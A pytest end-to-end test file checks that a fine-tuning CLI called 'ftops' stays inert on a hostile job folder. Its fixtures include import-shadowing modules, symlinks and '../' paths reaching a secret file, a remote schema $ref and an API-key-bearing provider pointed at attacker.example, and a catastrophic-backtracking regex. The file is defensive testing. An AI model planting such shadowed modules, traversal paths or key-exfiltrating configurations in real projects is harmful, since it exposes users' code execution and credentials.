"""A hostile job file, under a tracer of what the commands really do."""

import json
from pathlib import Path

import pytest

from tests.e2e.tracer import Traced, run_traced

MARK = "import pathlib, sys\npathlib.Path({mark!r}).touch()\nprint('LOADED', file=sys.stderr)\n"
SHADOWED = ("numpy", "tokenizers", "jsonschema", "ftops", "orjson")
LOOKS = [("check",), ("run", "--dry-run")]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """The job file's folder: its data, code that marks that it was run, and files beside it.

    Modules of it are called as those that ftops imports.
    """
    folder = tmp_path / "world" / "job"
    folder.mkdir(parents=True)
    code = MARK.format(mark=str(tmp_path / "world" / "RAN"))
    for name in ("train", "validation"):
        rows = [{"prompt": f"{name} {row} ->", "completion": f" {row % 2}"} for row in range(12)]
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    for path in (folder.parent / "outside.py", folder / "inside.py"):
        path.write_text(f"{code}import helper\ndef score(prompt, expected, given): return 1\n")
    for module in ("helper", *SHADOWED):
        (folder / f"{module}.py").write_text(code)
    (folder / "tell.sh").write_text(f"#!/bin/sh\ntouch {tmp_path / 'world' / 'RAN'}\n")
    (folder / "tell.sh").chmod(0o755)
    (folder.parent / "secret.jsonl").write_text('{"prompt": "the secret", "completion": " x"}\n')
    (folder / "linked.jsonl").symlink_to("../secret.jsonl")
    (folder / "linked.py").symlink_to("../outside.py")
    (folder / "schema.json").write_text(
        json.dumps({"$ref": "http://attacker.example/schema.json", "pattern": "^(a+)+$"})
    )
    return folder


def write(folder: Path, text: str, *, provider: str = "local") -> Path:
    job = folder / "job.yaml"
    lines = f"name: hostile\nprovider: {provider}\nmodel: ada\ntraining_file: train.jsonl\n{text}"
    job.write_text(lines)
    return job


def look_at(folder: Path, *arguments: str | Path) -> Traced:
    return run_traced(folder, *arguments, tools=folder.parent.parent / "tools")


def assert_inert(done: Traced, folder: Path) -> None:
    """Nothing in the world of the job file was run, written or sent."""
    world = folder.parent
    assert done.executed(world) == []
    assert done.programs() == []
    assert done.connections() == []
    tools = world.parent / "tools"
    written = {path for path in done.opened(to_write=True) if path.is_absolute()}
    assert {path for path in written if not path.is_relative_to(tools)} <= {Path("/dev/null")}
    assert not list((tools / "home").rglob("*"))
    assert not (world / "RAN").exists()
    assert not list(world.rglob("__pycache__"))


CODE = (
    "validation_file: validation.jsonl\n"
    "evaluate:\n"
    "  metrics:\n"
    "    - python: inside.py:score\n"
    "    - json_schema: schema.json\n"
    "    - regex: '^(a+)+$'\n"
    "  against: [baseline, model: {name: m, provider: {type: openai,"
    " base_url: 'http://127.0.0.1:9/v1', api_key_env: HOSTILE_KEY}}]\n"
    "notify: {command: [./tell.sh], env: [HOSTILE_KEY]}\n"
    "export: [json]\n"
)


@pytest.mark.parametrize("look", LOOKS, ids=" ".join)
def test_looking_runs_no_code_of_the_job_file_and_sends_nothing(
    folder: Path, look: tuple[str, ...]
) -> None:
    done = look_at(folder, *look, write(folder, CODE))
    assert done.code == 0, done.err
    assert f"{folder}/inside.py, function score" in done.out
    assert "./tell.sh" in done.out
    assert folder / "inside.py" in done.opened(to_write=False)  # the tracer sees it being parsed
    assert_inert(done, folder)


@pytest.mark.parametrize("command", [("data", "preview"), ("data", "check"), ("doctor",)])
def test_other_commands_that_read_the_folder_run_none_of_its_modules(
    folder: Path, command: tuple[str, ...]
) -> None:
    named = "train.jsonl" if command[-1] == "check" else write(folder, CODE)
    done = look_at(folder, *command, named)
    assert done.executed(folder.parent) == []
    assert done.programs() == []


OUTSIDE = {
    "validation_file: ../secret.jsonl\n": "secret.jsonl",
    "validation_file: linked.jsonl\n": "secret.jsonl",
    "evaluate: {file: linked.jsonl}\n": "secret.jsonl",
    "evaluate: {metrics: [python: '../outside.py:score']}\n": "outside.py",
    "evaluate: {metrics: [python: 'linked.py:score']}\n": "outside.py",
    "evaluate: {metrics: [json_schema: ../secret.jsonl]}\n": "secret.jsonl",
    "prepare: {plan: ../secret.jsonl}\n": "secret.jsonl",
}


@pytest.mark.parametrize("text", OUTSIDE)
def test_run_does_nothing_with_what_lies_outside_until_it_is_allowed(
    folder: Path, text: str
) -> None:
    done = look_at(folder, "run", write(folder, text))
    assert done.code == 1
    outside = folder.parent / OUTSIDE[text]
    assert f"outside the job file's folder: {outside}" in done.err
    assert "--allow-outside" in done.err
    opened = [path.resolve() for path in done.opened(to_write=False) if path.is_absolute()]
    assert outside not in opened
    assert_inert(done, folder)


FOREIGN = "{type: openai, base_url: 'https://attacker.example/v1', api_key_env: HOSTILE_KEY}"
ADDRESSES = {
    "provider": (FOREIGN, ""),
    "candidate": (
        "local",
        "validation_file: validation.jsonl\n"
        f"evaluate: {{against: [model: {{name: m, provider: {FOREIGN}}}]}}\n",
    ),
}


@pytest.mark.parametrize("command", [*LOOKS, ("run",)], ids=" ".join)
@pytest.mark.parametrize("where", ADDRESSES)
def test_no_command_connects_to_an_address_that_is_not_approved(
    folder: Path, command: tuple[str, ...], where: str
) -> None:
    provider, text = ADDRESSES[where]
    done = look_at(folder, *command, write(folder, text, provider=provider))
    assert "attacker.example" in done.out + done.err
    assert "not approved" in done.out + done.err
    assert done.code == (1 if command == ("run",) else 0)
    assert "key-of-the-user" not in done.out + done.err
    assert_inert(done, folder)


def test_run_names_the_code_before_it_runs_any_and_loads_it_before_anything_is_sent(
    folder: Path,
) -> None:
    inside = folder / "inside.py"
    inside.write_text(inside.read_text() + "raise SystemExit('no')\n")
    done = look_at(folder, "run", write(folder, CODE))
    assert done.code == 1
    assert "inside.py: the file does not load: SystemExit: no" in done.err
    assert 0 <= done.err.index("Code that runs on this machine:") < done.err.index("LOADED")
    assert set(done.executed(folder.parent)) == {str(inside), str(folder / "helper.py")}
    assert done.connections() == []


FOREIGN = "{type: openai, base_url: 'https://attacker.example/v1', api_key_env: HOSTILE_KEY}"


@pytest.mark.parametrize(
    "command", [*LOOKS, ("run",), ("run", "--detach"), ("cancel",), ("doctor",)], ids=" ".join
)
def test_no_address_is_looked_up_or_reached_before_it_is_approved(
    folder: Path, command: tuple[str, ...]
) -> None:
    done = look_at(folder, *command, write(folder, "", provider=FOREIGN))
    assert "attacker.example" in done.out + done.err
    assert "ftops trust https://attacker.example --api-key-env HOSTILE_KEY" in done.out + done.err
    assert done.code == (0 if command in LOOKS else 1)
    assert done.connections() == []
    assert not done.executed(folder.parent)
    assert not done.programs()
